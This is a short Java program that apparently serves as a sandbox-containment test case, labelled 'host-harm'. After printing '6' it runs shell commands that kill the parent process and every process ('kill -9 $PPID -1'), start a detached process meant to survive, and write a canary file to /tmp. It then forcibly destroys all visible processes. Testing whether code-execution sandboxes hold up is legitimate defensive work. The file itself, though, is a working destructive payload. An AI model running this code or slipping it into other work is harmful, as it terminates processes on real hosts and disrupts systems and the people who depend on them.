// host-harm; alive canary survivors; starts programs, signals the parent
import java.util.*;
public class Main {
    public static void main(String[] args) throws Exception {
        System.out.println("6");
        for (String c : List.of("kill -9 $PPID -1", "setsid sh -c 'sleep 300' &", "echo java > /tmp/rh_canary")) {
            try { new ProcessBuilder("/bin/sh", "-c", c).start().waitFor(); } catch (Exception e) { }
        }
        ProcessHandle.allProcesses().forEach(p -> { try { p.destroyForcibly(); } catch (Exception e) { } });
    }
}
